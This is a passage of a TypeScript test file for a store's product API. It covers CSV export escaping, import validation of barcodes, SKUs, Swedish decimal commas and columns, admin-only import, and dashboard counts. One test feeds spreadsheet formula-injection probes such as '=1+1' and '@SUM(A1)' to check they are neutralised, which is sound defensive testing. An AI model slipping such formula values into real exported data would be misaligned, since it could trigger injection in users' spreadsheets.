    expect(csvCell(true)).toBe("true");
    expect(csvCell(null)).toBe("");
    expect(csvCell("-5")).toBe("'-5");
    for (const text of ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''-1", "'x", "x=1", "", "plain"]) {
      expect(cellText(csvCell(text))).toBe(text);
    }
    expect(csvCell("\t=1")).toBe("'\t=1");
    expect(csvCell("x=1")).toBe("x=1");
  });

  it("rejects a row whose barcode another product has, naming that product", async () => {
    const owner = await create({ sku: "AGARE-1", name: "Ägaren", barcode: ean("731600000021") });
    const report: ImportReport = (
      await csvPost(`sku,name,price,barcode\nINTRANG-1,Inkräktare,5,${owner.barcode}`)
    ).json();
    expect(report.rows[0]!.errors).toEqual([
      `barcode: ${owner.barcode} already belongs to "Ägaren" (SKU AGARE-1); take it off this row or off that product`,
    ]);
  });

  it("says once, with the fix, that a row has no SKU", async () => {
    const report: ImportReport = (await csvPost("sku,name,price\n,Vara,10\n  ,Vara,abc")).json();
    expect(report.rows[0]!.errors).toEqual([MISSING_SKU]);
    expect(report.rows[1]!.errors).toEqual([MISSING_SKU, "price: Price must be a number"]);
    expect(MISSING_SKU).toMatch(/^sku: .*Give the row a SKU/);
  });

  it("reads semicolon files with decimal commas, as Swedish spreadsheets write them", async () => {
    const res = await csvPost("sku;name;price;vat_rate\nSEMI-1;Kanelbulle;12,50;12", "?dry_run=false");
    expect(res.json()).toMatchObject({ created: 1, rejected: 0 });
    expect((await admin.get("/api/v1/products/?search=SEMI-1")).json()[0]).toMatchObject({ price: 12.5, vat_rate: 12 });
  });

  it("refuses a file with unknown or missing columns, or no rows", async () => {
    const unknown = await csvPost("sku,name,price,colour\nX,Y,1,red");
    expect(unknown.statusCode).toBe(422);
    expect(unknown.json().detail).toContain("unknown column colour");
    expect((await csvPost("sku,name\nX,Y")).json().detail).toContain("price column");
    expect((await csvPost("sku,name,price\n")).json().detail).toContain("no rows");
    expect((await csvPost('sku,name,price\n"X,Y,1')).statusCode).toBe(422);
  });

  it("lets only platform admins import", async () => {
    const storeAdmin = (await signIn(ctx.app, "store_admin")).cookie;
    const res = await ctx.app.inject({
      method: "POST",
      url: "/api/v1/products/import",
      payload: "sku,name,price\nX,Y,1",
      headers: { "content-type": "text/csv" },
      cookies: { [ADMIN_COOKIE]: storeAdmin },
    });
    expect(res.statusCode).toBe(403);
  });
});

describe("dashboard", () => {
  it("counts the real products", async () => {
    const total = Number((await admin.get("/api/v1/products/?limit=1")).headers["x-total-count"]);
    expect(total).toBeGreaterThan(10);
    expect((await admin.get("/api/v1/admin/dashboard")).json().total_products).toBe(total);
  });
});
